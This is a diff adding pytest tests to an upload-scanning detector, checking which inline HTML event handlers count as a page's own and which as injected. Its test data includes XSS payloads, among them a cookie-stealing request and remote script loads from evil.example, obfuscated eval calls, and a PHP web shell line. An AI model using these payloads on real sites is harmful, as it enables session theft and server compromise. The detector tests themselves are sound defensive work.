@@ -466,3 +466,85 @@ def test_web_shell_in_an_image_comment_and_past_the_first_chunk() -> None:
     assert judge(gif, "avatar.gif")[0] is Verdict.threat
     late = random.Random(2).randbytes(3 << 20) + b"<?php @eval($_POST['x']); ?>"
     assert judge(late, "blob.bin")[0] is Verdict.threat
+
+
+# --- self-running handlers of a page's own shape ----------------------------------------------------
+
+PAGE_SHAPED = [
+    "init()",
+    "resize(this)",
+    "init(evt)",
+    "App.start()",
+    "gtag('event', 'page_loaded')",
+    "document.getElementById('q').focus()",
+    "this.onerror=null;this.src='/img/logo-fallback.png'",
+    "this.onload=null;this.rel='stylesheet'",
+    "this.src='https://cdn.example.com/logo.png'",
+    "this.style.display='none'",
+    "init(); return false",
+    "loadCSS('/css/app.css')",
+]
+PAYLOADS = [
+    "alert(1)",
+    "alert(document.domain)",
+    "prompt(1)",
+    "\\u0061lert(1)",
+    "a=alert,a(1)",
+    "self['al'+'ert'](1)",
+    "this.src='https://evil.example/?'+document.cookie",
+    "$.getScript('//evil.example/x.js')",
+    "loadScript('https://evil.example/x.js')",
+    "import('//evil.example/x.js')",
+    "eval(atob('YWxlcnQoMSk='))",
+    "Function('alert(1)')()",
+    "[].constructor.constructor('alert(1)')()",
+    "setTimeout('alert(1)')",
+    "top.location='https://evil.example'",
+    "location.href='//evil.example'",
+    "fetch('/account/export')",
+    "this.innerHTML='<img src=x onerror=alert(1)>'",
+    "this.src='data:text/html,<script>alert(1)</script>'",
+    "document.write('<script src=//evil.example></script>')",
+    "window.onerror=alert;throw 1",
+    "init()//",
+    "x=1",
+    "init(" + "a," * 400 + "a)",  # past PAGE_HANDLER_MAX_CHARS
+]
+
+
+@pytest.mark.parametrize("code", PAGE_SHAPED)
+def test_a_self_running_handler_of_a_pages_own_shape_is_a_review(code: str) -> None:
+    """``<body onload="init()">``, an image's fallback, the ``rel=preload`` idiom: they run by themselves
+    but do what a page does with its own elements. Before, each was a 0.9 exploit (I3-script-in-document,
+    a temporary suspension); now a review, as a page's <script> and its controls' handlers are."""
+    from aup.detectors.uploads.markup import page_handler
+
+    assert page_handler(code)
+    page = f'<html><head><title>Acme</title></head><body><img src="a.png" onload="{code}"></body></html>'
+    got, _, findings = judge(page.encode(), "index.html")
+    (f,) = findings
+    assert (got, f.confidence, f.evidence["page_handlers"]) == (Verdict.review, 0.6, {"onload": 1})
+
+
+@pytest.mark.parametrize("code", PAYLOADS)
+def test_what_injected_markup_runs_stays_self_running(code: str) -> None:
+    from aup.detectors.uploads.markup import page_handler
+
+    assert not page_handler(code)
+
+
+def test_a_legacy_site_with_onload_and_fallbacks_is_held_for_review_not_struck() -> None:
+    page = (
+        b'<!doctype html><html><head><title>Acme Tools</title><script src="/js/app.js"></script>'
+        b'<link rel="preload" href="/css/app.css" as="style" onload="this.onload=null;this.rel=\'stylesheet\'">'
+        b'</head><body onload="init()"><img src="/img/logo.png" onerror="this.src=\'/img/logo-fallback.png\'">'
+        b'<iframe src="/embed/map" onload="resize(this)"></iframe></body></html>'
+    )
+    got, _, findings = judge(page, "index.html")
+    (f,) = findings
+    assert got is Verdict.review and f.confidence < POLICY.rule("I3-script-in-document").confidence_bar
+    assert f.evidence["page_handlers"] == {"onload": 3, "onerror": 1}
+    assert f.evidence["event_handlers"] == {}
+    probe = page.replace(b"this.src='/img/logo-fallback.png'", b"alert(document.domain)")
+    got, _, findings = judge(probe, "index.html")
+    assert got is Verdict.threat and findings[0].evidence["event_handlers"] == {"onerror": 1}
